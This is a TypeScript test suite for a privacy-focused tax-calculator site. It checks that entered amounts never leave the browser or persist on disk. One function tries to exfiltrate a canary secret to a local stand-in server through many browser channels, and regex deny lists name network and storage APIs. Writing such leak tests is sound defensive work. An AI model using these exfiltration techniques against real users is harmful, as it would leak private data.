import { createServer, type RequestListener } from 'node:http'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, inject, it, vi } from 'vitest'
import type { Site } from '@zeimori/resident'
import { canary, canaryLeaks, postedCanaryLeaks } from '../canary.ts'
import { hasChromium, launchWithProfile } from '../chromium.ts'
import { sharedSite } from '../shared-site.ts'
import { listenerOf, serveSite } from '../site.ts'

/** A server of either kind, on a free port, and every address it was asked for. */
async function recording(answer: RequestListener) {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method ?? ''} ${request.url ?? ''}`)
    answer(request, response)
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (typeof address !== 'object' || address === null) throw new Error('no port')
  return { url: `http://127.0.0.1:${address.port}`, asked, close: () => server.close() }
}

const hostings: Readonly<Record<string, (site: Site) => Promise<RequestListener>>> = {
  受け口: async (site) => {
    const app = listenerOf(site)
    await app.ready()
    return (request, response) => app.routing(request, response)
  },
  // The site's files, and not one header of ours.
  ヘッダを送らない置き場:
    async ({ files }) =>
    ({ url = '/' }, response) => {
      const file = files.get(url === '/' ? 't/999997/ja/index.html' : url.slice(1))
      response.writeHead(file ? 200 : 404, { 'content-type': file?.type ?? 'text/plain' })
      response.end(file?.bytes)
    },
}

/** Every way to send that a page has without leaving itself. Runs inside the browser. */
async function tryToSend([elsewhere, secret]: readonly [string, string]): Promise<void> {
  const { port } = new URL(elsewhere)
  const here = location.origin
  const quietly = async (attempt: () => unknown): Promise<void> => {
    try {
      await attempt()
    } catch {
      // Blocked, as it should be.
    }
  }
  const add = (tag: string, attributes: Readonly<Record<string, string>>): Element => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  for (const to of [`${elsewhere}/leak?${secret}`, `${here}/leak?${secret}`]) {
    await quietly(() => fetch(to))
    await quietly(() =>
      fetch(to, { method: 'POST', body: secret, mode: 'no-cors', keepalive: true }),
    )
    await quietly(() => navigator.sendBeacon(to, secret))
    await quietly(() => {
      const request = new XMLHttpRequest()
      request.open('POST', to)
      request.send(secret)
    })
    await quietly(() => new EventSource(to))
    await quietly(() => new WebSocket(`ws://127.0.0.1:${port}/leak?${secret}`))
    await quietly(() => new Worker(to))
    await quietly(() => navigator.serviceWorker.register(to))
    await quietly(() => add('img', { src: to }))
    await quietly(() => add('iframe', { src: to }))
    await quietly(() => add('object', { data: to }))
    await quietly(() => add('video', { src: to }))
    for (const rel of ['preload', 'manifest', 'icon'])
      await quietly(() => add('link', { rel, href: to, as: 'image' }))
    await quietly(() => add('div', { style: `background: url(${to})` }))
    await quietly(() => add('script', { src: to }))
    await quietly(() => {
      const form = document.createElement('form')
      form.action = to
      form.method = 'post'
      document.body.append(form)
      form.submit()
    })
  }
  // From its own site the page may fetch fonts and, ahead of time, files: only there, and it sends nothing.
  await quietly(() => new FontFace('leak', `url(${elsewhere}/leak?${secret})`).load())
  await quietly(() => add('link', { rel: 'prefetch', href: `${elsewhere}/leak?${secret}` }))
  await quietly(() => add('link', { rel: 'stylesheet', href: `${elsewhere}/leak?${secret}` }))
  await quietly(() => import(`${elsewhere}/leak?${secret}`))
  await new Promise((resolve) => {
    setTimeout(resolve, 1_000)
  })
}

describe.skipIf(!hasChromium)('入力した金額は、端末の外へ出ず、どこにも残らない', () => {
  const url = inject('residentUrl')

  it('すべての欄に入れても、要求・アドレス・端末のファイルのどこにも現れない', async () => {
    const { boxes, requests, seen } = await canaryLeaks(`${url}/#/tax`)
    expect(boxes).toBeGreaterThan(120)
    expect(requests).toBeGreaterThan(3)
    expect(seen).toEqual([])
  })

  it('JavaScriptのないページでは、送った先のほかへ出ず、受け口のファイルにも残らない', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'zeimori-listener-'))
    vi.stubEnv('TMPDIR', folder)
    const said = vi.spyOn(process.stdout, 'write')
    const site = await serveSite(await sharedSite())
    vi.unstubAllEnvs()
    const { boxes, requests, seen } = await postedCanaryLeaks(
      `${site.url}/t/999997/ja/no-script/`,
      folder,
    )
    const words = said.mock.calls.join('')
    said.mockRestore()
    await site.close()
    rmSync(folder, { recursive: true, force: true })
    expect(boxes).toBeGreaterThan(20)
    expect(requests).toBe(1)
    expect(seen).toEqual([])
    expect(words).not.toContain(canary)
  })
})

describe.skipIf(!hasChromium)('たとえページのプログラムがまちがっても、方針が送信を止める', () => {
  for (const [name, answers] of Object.entries(hostings))
    it(`${name}のページから`, async () => {
      const elsewhere = await recording((_, response) => void response.end())
      const here = await recording(await answers(await sharedSite(false)))
      const profile = mkdtempSync(join(tmpdir(), 'zeimori-profile-'))
      const context = await launchWithProfile(profile)
      try {
        const page = await context.newPage()
        await page.goto(here.url)
        await page.evaluate(tryToSend, [elsewhere.url, canary] as const)
        expect(here.asked.length).toBeGreaterThan(3)
        expect([...elsewhere.asked, ...here.asked.filter((line) => /leak/.test(line))]).toEqual([])
      } finally {
        await context.close()
        rmSync(profile, { recursive: true, force: true })
        elsewhere.close()
        here.close()
      }
    })
})

/** How the shell asks whether there can be a service worker, and registers it. */
const registering = /"serviceWorker"in navigator|navigator\.serviceWorker\.register\(/g

/** The scripts that run in a page, by path. */
const pageScripts = async () =>
  [...(await sharedSite()).files]
    .filter(([path]) => path.endsWith('.js') && path !== 'service-worker.js')
    .map(([path, { bytes }]) => [path, Buffer.from(bytes).toString('utf8')] as const)

describe('方針では止められない道を、ページのプログラムは一つも使わない', () => {
  const ways = [
    ['別のアドレスへ移る', /\blocation\b(?!\.hash\b)|\bnavigation\.|\bhistory\.(?!replaceState\()/],
    ['別の窓を開く', /\bopen\(|window\.open/],
    ['リンクを押したりフォームを送ったりする', /\.click\(|\.submit\(|requestSubmit/],
    ['端末どうしでつなぐ', /RTCPeerConnection|WebTransport/],
    ['要求を出す', /\bfetch\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|new Image\b/],
    ['ほかの窓へ渡す', /postMessage|BroadcastChannel|SharedWorker|serviceWorker/],
    [
      'あとから何かを取りに行く',
      /FontFace|prefetch|createElement\("(?:a|form|i?frame|img|link|script)"/,
    ],
    // What she agrees to keep goes through one door, of which the tests above and of keeping know.
    // What is on its way to the next page of the tab goes through another, which sees noise alone.
    // A value is copied where she presses 「コピー」, and nothing is ever read from there.
    [
      '端末に残す',
      /localStorage(?!\.(?:get|set|remove)Item\()|sessionStorage(?!\.(?:get|set|remove)Item\()|indexedDB|\.cookie\b|\bcaches\b|clipboard(?!\.writeText)/,
    ],
  ] as const

  for (const [way, pattern] of ways)
    it(`${way}ことはない`, async () => {
      const scripts = await pageScripts()
      expect(scripts.length).toBeGreaterThan(1)
      for (const [path, text] of scripts)
        // Registering the service worker is the one thing that the shell may do.
        expect([path, pattern.exec(text.replace(registering, ''))?.[0]]).toEqual([path, undefined])
    })

  it('タブに置くのは、一か所だけ', async () => {
    const found = (await pageScripts()).filter(([, text]) => text.includes('sessionStorage.set'))
    // One part, which the languages share where it says nothing in any of them.
    expect(found.length).toBeGreaterThan(0)
    for (const [, text] of found) expect(text.split('sessionStorage.set')).toHaveLength(2)
  })

  it('サービスワーカーを登録するのは、一か所だけ', async () => {
    const found = (await pageScripts()).filter(([, text]) => text.includes('serviceWorker'))
    // The shell, of which each language has its own.
    expect(found.length).toBeGreaterThan(0)
    for (const [path, text] of found) {
      expect(path).toMatch(/^assets\/shell-\w+\.js$/)
      expect(text.match(registering)).toHaveLength(2)
    }
  })

  it('サービスワーカーは、ページから何も受け取らず、自分のサイトのファイルのほかは求めない', async () => {
    const { bytes } = (await sharedSite()).files.get('service-worker.js') ?? { bytes: '' }
    const text = Buffer.from(bytes).toString('utf8')
    expect(text).toContain('addEventListener("fetch"')
    expect(text).not.toMatch(/["']message["']|postMessage|onmessage|\.body\b|importScripts/)
    expect(text.match(/https?:\/\/[^"'`\s]+/g) ?? []).toEqual([])
  })
})
